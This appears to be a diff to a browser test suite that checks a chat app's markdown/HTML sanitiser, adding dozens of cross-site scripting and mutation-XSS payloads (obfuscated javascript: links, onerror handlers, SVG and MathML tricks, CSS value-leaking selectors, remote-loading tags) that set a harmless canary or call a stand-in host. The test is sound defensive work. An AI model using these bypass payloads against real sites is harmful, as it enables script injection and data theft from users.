@@ -7,7 +7,7 @@ from typing import TYPE_CHECKING
 import pytest
 
 from . import states
-from .mock_backend import MockBackend, wait_until
+from .mock_backend import MockBackend
 from .states import CONVERSATION
 
 if TYPE_CHECKING:
@@ -65,6 +65,87 @@ HOSTILE = [
     "[a]: javascript:window.canary=1\n\n[a]",
     "| <img src=x onerror=window.canary=1> |\n|---|\n| x |",
     "$<img src=x onerror=window.canary=1>$",
+    # Schemes hidden by control characters, white space, case, escapes or look-alikes.
+    "[x](JaVaScRiPt:window.canary=1)",
+    "[x](<java\nscript:window.canary=1>)",
+    "[x](&#x01;javascript:window.canary=1)",
+    "[x](javascript&colon;window.canary=1)",
+    "[x](java&Tab;script&colon;window.canary=1)",
+    "[x](\x00javascript:window.canary=1)",
+    "[x](%6aavascript:window.canary=1)",
+    "[x](\u0458avascript:window.canary=1)",
+    "[x](\u200bjavascript:window.canary=1)",
+    "[x](view-source:javascript:window.canary=1)",
+    "[x](blob:null/1)",
+    f"[x](filesystem:{FAR}/a)",
+    "[x](intent://x#Intent;S.browser_fallback_url=javascript:1;end)",
+    "[x](//far.test/protocol-relative)",
+    "[x](\\\\far.test/a)",
+    "<data:text/html,x> <vbscript:x> <file:///etc/passwd> <ftp://far.test/> <JAVASCRIPT:window.canary=1>",
+    '<a href="java&#10;script:window.canary = 1">x</a>',
+    '<a href=" &#14; javascript:window.canary = 1">x</a>',
+    '<a href="\x01javascript:window.canary = 1">x</a>',
+    '<a href="data:text/html,<script>opener.canary = 1</script>" target=_blank>x</a>',
+    # Images: data URLs, and every other place that loads.
+    "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.canary=1'/>)",
+    "![x](data:image/png;base64,iVBORw0KGgo=)",
+    '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22top.canary=1%22/%3E">',
+    f'<picture><source srcset="{FAR}/a.webp"><img src=x></picture>',
+    f'<img src=x lowsrc="{FAR}/a.png" longdesc="{FAR}/a" usemap="#m"><map name=m><area href="{FAR}/"></map>',
+    f'<input type=image src="{FAR}/a.png">',
+    f'<video poster="{FAR}/a.png"></video>',
+    f'<track src="{FAR}/a.vtt">',
+    f'<body background="{FAR}/a.png">',
+    # Style.
+    f"<style>@font-face {{ font-family: x; src: url({FAR}/a.woff2) }} * {{ font-family: x }}</style>",
+    f"<style>input[value^=a] {{ background: url({FAR}/a) }}</style><input value=abc>",
+    f'<div style="list-style-image: url({FAR}/a.png); display: list-item">x</div>',
+    f'<div style="background-image: image-set(url({FAR}/a.png) 1x)">x</div>',
+    f"<svg><style>@import url({FAR}/a.css);</style></svg>",
+    '<style onload="window.canary = 1"></style>',
+    # SVG and MathML.
+    f'<svg><use href="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg><image href={FAR}/a/></svg>#x"/>',
+    '<svg><a xlink:href="javascript:window.canary = 1"><rect width=9 height=9 /></a></svg>',
+    '<svg><set attributeName=onmouseover to="window.canary = 1"/></svg>',
+    '<svg><a><animate attributeName=href values="javascript:window.canary = 1"/><text y=9>x</text></a></svg>',
+    '<svg><foreignObject><iframe srcdoc="<script>parent.canary = 1</script>"></iframe></foreignObject></svg>',
+    f'<svg><feImage href="{FAR}/a.png"/><filter id=f><feImage href="{FAR}/b.png"/></filter></svg>',
+    f'<svg fill="url({FAR}/a.svg#x)"><rect width=9 height=9 filter="url({FAR}/b.svg#x)"/></svg>',
+    '<math href="javascript:window.canary = 1">x</math>',
+    '<math><maction actiontype="statusline#" xlink:href="javascript:window.canary = 1">x</maction></math>',
+    '<math><annotation-xml encoding="text/html"><img src=x onerror="window.canary = 1"></annotation-xml></math>',
+    # Markup that means something else when it is parsed a second time.
+    '<svg></p><style><a id="</style><img src=x onerror=window.canary=1>">',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.canary=1&gt;">',
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.canary=1>",
+    "<svg><title><noscript></title><img src=x onerror=window.canary=1></noscript></svg>",
+    "<noscript><style></noscript><img src=x onerror=window.canary=1></style></noscript>",
+    '<template shadowrootmode=open><img src=x onerror="window.canary = 1"></template>',
+    "<div><template shadowrootmode=open><script>window.canary = 1</script></template></div>",
+    "<textarea></textarea><img src=x onerror=window.canary=1></textarea>",
+    "<title></title><img src=x onerror=window.canary=1></title>",
+    "<xmp><p title='</xmp><img src=x onerror=window.canary=1>'></xmp>",
+    "<![CDATA[<img src=x onerror=window.canary=1>]]>",
+    "<?xml-stylesheet href='javascript:window.canary=1'?>",
+    "<a title='&quot;><img src=x onerror=window.canary=1>'>x</a>",
+    "<img src=x onerror\x0c=window.canary=1>",
+    "<img/src=x/onerror=window.canary=1>",
+    # What leads away, or opens a connection without being shown.
+    f'<link rel=preconnect href="{FAR}"><link rel=dns-prefetch href="{FAR}"><link rel=preload as=image href="{FAR}/a">',
+    f'<link rel=modulepreload href="{FAR}/a.js"><link rel=icon href="{FAR}/a.ico"><link rel=manifest href="{FAR}/a">',
+    f'<script type=speculationrules>{{"prefetch": [{{"source": "list", "urls": ["{FAR}/"]}}]}}</script>',
+    f"<iframe srcdoc=\"<meta http-equiv=refresh content='0;url={FAR}/'>\"></iframe>",
+    f'<iframe name=x></iframe><a href="{FAR}/" target=x>x</a><frameset onload="window.canary = 1"><frame src="{FAR}/">',
+    f'<a href="{FAR}/" target="_top" rel="opener" download attributionsrc="{FAR}/a">x</a>',
+    f'<a href="#" ping="{FAR}/a {FAR}/b">x</a>',
+    f'<object type="text/html" data="javascript:parent.canary = 1"><param name=src value="{FAR}/"></object>',
+    f'<portal src="{FAR}/"></portal><fencedframe src="{FAR}/"></fencedframe><applet codebase="{FAR}/"></applet>',
+    '<button popovertarget=x onclick="window.canary = 1">x</button><dialog open id=x>x</dialog>',
+    # Elements named as parts of the document, and very long values.
+    "<form id=app><input name=attributes><input name=parentNode></form><img name=cookie><a id=location>x</a>",
+    f'<a href="https://example.com/{"a" * 100_000}" title="{"b" * 100_000}" onclick="window.canary = 1">x</a>',
+    f"[x](https://example.com/{'a' * 50_000}){'![' * 2_000}",
+    f"{'<b>' * 5_000}<img src=x onerror=window.canary=1>",
 ]
 # The policy cannot forbid this one: that there is no such element is the sanitiser's part, and the parser's.
 META_REFRESH = f'<meta http-equiv="refresh" content="0;url={FAR}/">'
@@ -85,8 +166,10 @@ def far_requests(page: Page, origin: str) -> list[str]:
 def wait_for_all_handlers(page: Page) -> None:
     """What was inserted has loaded or failed: its events were dispatched before a fetch that began after it ends."""
     page.evaluate("""async () => {
+        document.body.getBoundingClientRect();  // what styles load is requested by now
         await fetch("/assets/app.css");
-        await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
+        // No animation frame: a link may have opened a window before this one.
+        await new Promise((resolve) => setTimeout(resolve));
     }""")
 
 
@@ -95,8 +178,13 @@ def test_hostile_text_becomes_harmless_nodes(page: Page, backend: MockBackend) -
     url = page.url
     hostile = [*HOSTILE, META_REFRESH]
     messages = [states.message(f"h-{i}", text) for i, text in enumerate(hostile)]
+    # Texts are rendered in order, so when this one is shown, all are.
+    messages.append(states.message("last", "the *end*"))
     backend.push({"type": "messages", "conversation": CONVERSATION, "messages": messages})
-    wait_until(page, "count => document.querySelectorAll('[data-message^=h-] .block').length >= count", len(hostile))
+    page.locator("[data-message=last] em").wait_for()
+    shown = page.locator("[data-message^=h-] .text").evaluate_all("texts => texts.map((text) => text.innerText.trim())")
+    assert len(shown) == len(hostile)
+    assert [text for text, visible in zip(hostile, shown, strict=True) if not visible] == []
     wait_for_all_handlers(page)
     assert page.evaluate("window.canary") is None
     assert far == []
